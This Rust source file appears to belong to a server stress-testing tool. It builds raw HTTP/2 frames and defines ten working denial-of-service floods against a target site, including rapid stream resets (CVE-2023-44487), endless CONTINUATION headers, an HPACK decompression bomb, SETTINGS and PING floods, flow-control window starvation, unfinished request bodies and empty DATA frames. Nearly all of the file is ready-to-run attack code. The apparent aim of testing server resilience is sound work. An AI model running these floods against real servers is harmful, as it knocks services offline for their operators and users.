//! Attacks by frames of HTTP/2 (RFC 9113): those that servers had to be mended for, from the resets of CVE-2023-44487 to the floods of 2019 and 2024.

use std::{io::Write, time::Duration};

use crate::{
    bank::{Answer, Attack, Field},
    exchange::connect_securely,
    site::{SecureStream, Served},
};

const CLASS: &str = "http2";
const SLOW: Duration = Duration::from_millis(100);
/// Frames that are written at once.
const FLOOD: u32 = 1_000;
/// Streams that are opened at once.
const STREAMS: u32 = 100;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `SETTINGS_INITIAL_WINDOW_SIZE` of 0.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

const SMALL: &str = "/graphql?query=%7Bauthors(limit:1)%7Bid%7D%7D";
const LARGE: &str = "/graphql?query=%7Bbooks(limit:10000)%7Bid%20title%7D%7D";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags][..], &stream.to_be_bytes()[..], payload].concat()
}

/// Frames as they stand behind each other.
fn frames(count: u32, of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..count).flat_map(of).collect()
}

/// A field whose name is in HPACK's table or follows, and whose value is not compressed (RFC 7541, 6.2.2).
fn literal(name: &[u8], value: &str) -> Vec<u8> {
    assert!(value.len() < 127, "its length is one byte");
    [name, &[value.len() as u8], value.as_bytes()].concat()
}

/// Method, scheme, authority, path and type of a request; `POST` needs a body.
fn head(field: &Field<'_>, method: &[u8], path: &str) -> Vec<u8> {
    [
        method.to_vec(),
        vec![0x87],
        literal(&[0x01], &field.site.address.to_string()),
        literal(&[0x04], path),
        literal(&[0x0f, 0x04], "application/json"),
        literal(&[0x0f, 0x10], "application/json"),
    ]
    .concat()
}

const GET: &[u8] = &[0x82];
const POST: &[u8] = &[0x83];

/// Clients choose odd streams.
fn stream_of(number: u32) -> u32 {
    number * 2 + 1
}

/// A whole request without a body.
fn get(field: &Field<'_>, number: u32, path: &str) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream_of(number), &head(field, GET, path))
}

fn open(field: &Field<'_>, settings: &[u8]) -> Option<SecureStream> {
    let mut stream = connect_securely(field, &["h2"])?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)[..]].concat()).ok()?;
    Some(stream)
}

/// A connection on which bytes are written again and again, as long as the server takes them; nothing is read. `bytes` is told which time it is.
fn flood(
    name: &'static str,
    clients: usize,
    settings: &'static [u8],
    bytes: impl Fn(&Field<'_>, u32) -> Vec<u8> + Send + Sync + 'static,
) -> Attack {
    Attack::new(CLASS, name, clients, move |field| {
        let Some(mut stream) = open(field, settings) else { return Answer::None };
        let mut time = 0;
        field.hold(SLOW, || {
            let is_taken = stream.write_all(&bytes(field, time)).is_ok();
            time += 1;
            is_taken
        })
    })
    .on(Served::Securely)
}

fn resets(field: &Field<'_>, time: u32) -> Vec<u8> {
    frames(STREAMS, |place| {
        let number = time * STREAMS + place;
        [get(field, number, LARGE), frame(RST_STREAM, 0, stream_of(number), &CANCEL)].concat()
    })
}

/// A head that never ends.
fn continuations(field: &Field<'_>, time: u32) -> Vec<u8> {
    let fields = b"\x00\x01a\x01b".repeat(3_000);
    let more = frames(10, |_| frame(CONTINUATION, 0, 1, &fields));
    if time > 0 {
        return more;
    }
    [frame(HEADERS, END_STREAM, 1, &head(field, GET, SMALL)), more].concat()
}

/// A field of 4,000 bytes that is put into HPACK's table, and named 12,000 times: 48 MB (CVE-2016-6581).
fn bomb(field: &Field<'_>, time: u32) -> Vec<u8> {
    // A length of 4,000 (RFC 7541, 5.1).
    let entry = [&b"\x40\x01a\x7f\xa1\x1e"[..], &[b'a'; 4_000]].concat();
    let block = [head(field, GET, SMALL), entry, vec![0xbe; 12_000]].concat();
    frame(HEADERS, END_HEADERS | END_STREAM, stream_of(time), &block)
}

/// Large responses of which a byte may be sent now and then.
fn small_windows(field: &Field<'_>, time: u32) -> Vec<u8> {
    if time == 0 {
        return frames(STREAMS, |number| get(field, number, LARGE));
    }
    frames(STREAMS, |number| frame(WINDOW_UPDATE, 0, stream_of(number), &1_u32.to_be_bytes()))
}

/// Requests whose bodies never come.
fn unfinished(field: &Field<'_>, time: u32) -> Vec<u8> {
    frames(STREAMS, |place| {
        let stream = stream_of(time * STREAMS + place);
        frame(HEADERS, END_HEADERS, stream, &head(field, POST, "/graphql"))
    })
}

/// Frames of a body that never gets longer (CVE-2019-9518).
fn empty_data(field: &Field<'_>, time: u32) -> Vec<u8> {
    let data = frames(FLOOD, |_| frame(DATA, 0, 1, b""));
    if time > 0 {
        return data;
    }
    [frame(HEADERS, END_HEADERS, 1, &head(field, POST, "/graphql")), data].concat()
}

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        flood("requests that are reset at once", 4, &[], resets),
        flood("a head that never ends (CONTINUATION)", 4, &[], continuations),
        flood("a head of 16 kB that becomes 48 MB", 4, &[], bomb),
        flood("1,000 SETTINGS at once", 4, &[], |_, _| frames(FLOOD, |_| frame(SETTINGS, 0, 0, &[]))),
        flood("1,000 pings at once", 4, &[], |_, _| frames(FLOOD, |_| frame(PING, 0, 0, &[0; 8]))),
        flood("100 large responses, no window", 4, &NO_WINDOW, |field, time| {
            if time == 0 { frames(STREAMS, |number| get(field, number, LARGE)) } else { Vec::new() }
        }),
        flood("100 large responses, a window of a byte now and then", 4, &NO_WINDOW, small_windows),
        flood("100 streams more each time, without an end", 4, &[], unfinished),
        flood("100 requests at once, nothing read", 4, &[], |field, time| {
            frames(STREAMS, |place| get(field, time * STREAMS + place, SMALL))
        }),
        flood("1,000 empty frames of a body at once", 4, &[], empty_data),
    ]
}
